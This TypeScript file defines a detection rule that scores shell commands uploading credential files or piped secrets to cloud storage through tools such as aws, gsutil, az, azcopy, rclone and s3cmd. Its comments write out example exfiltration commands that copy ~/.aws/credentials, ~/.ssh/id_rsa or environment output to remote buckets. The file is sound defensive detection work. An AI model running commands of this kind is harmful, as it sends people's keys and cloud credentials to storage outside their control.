import { type AnchoredCommand, commandAt, EXE_SUFFIX } from './anchored-command.js';
import { isEnvironmentFile, remotePath } from './copy-arguments.js';
import type { PayloadRule } from './payload-rule.js';
import { createPipelineReader } from './pipeline-reader.js';
import { commandName, isSensitivePath, readsSecrets } from './sensitive-sources.js';
import type { ShellWord } from './shell-words.js';

// Cloud storage uploads of credential files: `aws s3 cp ~/.aws/credentials s3://bucket/`,
// `gsutil cp ~/.ssh/id_rsa gs://…`, `gcloud storage cp`, `az storage blob upload --file ~/.ssh/id_rsa`,
// `azcopy copy`, `rclone copy ~/.ssh remote:`, `s3cmd put`, and `env | aws s3 cp - s3://…`. Operands
// are read by hand (aws s3 cp, gsutil cp, rclone copy, azcopy copy usage: sources then one destination);
// a copy whose destination is local (`aws s3 cp s3://b/x ~/.aws/credentials`) is a download.

const CLOUD_NAMES = new Set(['aws', 'gsutil', 'gcloud', 'az', 'azcopy', 'rclone', 's3cmd']);

/** Subcommands that copy local files to the destination, per tool. */
const COPY_SUBCOMMANDS: Readonly<Record<string, readonly string[]>> = {
  aws: ['cp', 'mv', 'sync'],
  gsutil: ['cp', 'mv', 'rsync'],
  gcloud: ['cp', 'mv', 'rsync'],
  azcopy: ['copy', 'cp', 'sync'],
  rclone: ['copy', 'copyto', 'sync', 'move', 'moveto'],
  s3cmd: ['put', 'sync', 'mv', 'cp'],
};

/** Options that take the next word as their value (written apart; `--name=value` is one word). */
const VALUE_OPTIONS = new Set([
  '--profile',
  '--region',
  '--endpoint-url',
  '--acl',
  '--storage-class',
  '--sse',
  '--sse-kms-key-id',
  '--content-type',
  '--cache-control',
  '--content-disposition',
  '--content-encoding',
  '--expires',
  '--metadata',
  '--metadata-directive',
  '--grants',
  '--exclude',
  '--include',
  '--ca-bundle',
  '--output',
  '--query',
  '--source-region',
  '--checksum-algorithm',
  '--config',
  '--filter',
  '--filter-from',
  '--include-from',
  '--exclude-from',
  '--files-from',
  '--transfers',
  '--checkers',
  '--bwlimit',
  '--log-file',
  '--log-level',
  '--backup-dir',
  '--project',
  '--account-name',
  '--account-key',
  '--container-name',
  '--name',
  '--connection-string',
  '--sas-token',
  '--auth-mode',
  '--destination',
  '--pattern',
  '--type',
  '--tier',
  '-o',
  '-h',
  '-u',
  '-a',
  '-z',
  '-j',
  '-x',
]);

/** `az storage … upload` options whose value is the local file or folder sent. */
const AZURE_SOURCES = new Set(['--file', '-f', '--source', '-s']);

/** A cloud destination: `s3://`, `gs://`, an `https://` blob URL, or an rclone remote (`name:path`). */
function isRemote(operand: string): boolean {
  return operand.includes('://') || remotePath(operand) !== undefined;
}

/** The operands of the words after a tool's subcommand (options and their values skipped). */
function operands(words: readonly ShellWord[]): string[] {
  const found: string[] = [];
  for (let index = 0; index < words.length; index++) {
    const value = words[index]!.value;
    if (value === '<' || value === '>') {
      index++;
      continue;
    }
    if (value.startsWith('-') && value.length > 1) {
      if (VALUE_OPTIONS.has(value)) index++;
      continue;
    }
    found.push(value);
  }
  return found;
}

/** Score for local sources sent: a credential file, or standard input fed with secrets (`-`). */
function sourcesScore(sources: readonly string[], anchored: AnchoredCommand): number | undefined {
  let score: number | undefined;
  for (const source of sources) {
    if (source === '-' && anchored.before.some((command) => readsSecrets(command))) return 0.85;
    if (isRemote(source) || !isSensitivePath(source)) continue;
    // An app's `.env` stored next to its deployment (ECS environment files live in S3) is common.
    score = Math.max(score ?? 0, isEnvironmentFile(source) ? 0.4 : 0.85);
  }
  return score;
}

/** The score of a cloud storage command at its name (`after` holds the words after it). */
export function cloudCopyScore(name: string, anchored: AnchoredCommand): number | undefined {
  const words = anchored.after;
  if (name === 'az') {
    // `az storage blob upload --file F`, `az storage blob upload-batch --source D`, `az storage file upload`.
    const values = words.map((word) => word.value);
    if (values[0] !== 'storage' || !values.some((value) => value.startsWith('upload'))) return undefined;
    const sources: string[] = [];
    values.forEach((value, index) => {
      const equals = value.indexOf('=');
      const option = equals === -1 ? value : value.slice(0, equals);
      if (!AZURE_SOURCES.has(option)) return;
      const source = equals === -1 ? values[index + 1] : value.slice(equals + 1);
      if (source !== undefined) sources.push(source);
    });
    return sourcesScore(sources, anchored);
  }
  const subcommands = COPY_SUBCOMMANDS[name];
  if (subcommands === undefined) return undefined;
  // The subcommand is the first operand (`aws s3 cp`, `gcloud storage cp`: the second after the service).
  const all = operands(words);
  let at = 0;
  if (name === 'aws' || name === 'gcloud') {
    if (all[0] !== (name === 'aws' ? 's3' : 'storage')) return undefined;
    at = 1;
  }
  if (!subcommands.includes(all[at] ?? '')) return undefined;
  const rest = all.slice(at + 1);
  if (rest.length < 2 || !isRemote(rest[rest.length - 1]!)) return undefined;
  return sourcesScore(rest.slice(0, -1), anchored);
}

const reader = createPipelineReader();

/** Credential files (or secrets on standard input) copied to cloud storage. */
export const CLOUD_COPY_EXFILTRATION_RULE: PayloadRule = {
  id: 'output.shell-exfil-cloud-copy',
  type: 'SHELL_EXFILTRATION',
  // `aws s3 cp ./build s3://my-site --recursive`, `gsutil cp report.csv gs://…` copy no secret.
  pattern: /\b(?:aws|gsutil|gcloud|az|azcopy|rclone|s3cmd)(?:\.exe)?\s/,
  score: 0.85,
  // `az` stands for itself by `storage` (every Azure upload read here is `az storage … upload`): a
  // two-letter hint stops the one hint pass at every `az` in a text.
  hints: ['aws', 'gsutil', 'gcloud', 'storage', 'azcopy', 'rclone', 's3cmd'],
  spaceAfter: ['aws', 'gsutil', 'gcloud', 'storage', 'azcopy', 'rclone', 's3cmd', 'exe'],
  // Destinations hold `:` (`s3://`, `remote:`); Azure uploads name their file with an option.
  textFilter: (text) => text.includes(':') || text.includes(' -'),
  confirm: ({ text, start }) => {
    const anchored = commandAt({ reader, text, start, names: CLOUD_NAMES });
    const command = commandName(anchored.command);
    if (command === undefined || anchored.command[command.at]?.start !== start) return undefined;
    return cloudCopyScore(command.name.replace(EXE_SUFFIX, ''), anchored);
  },
};
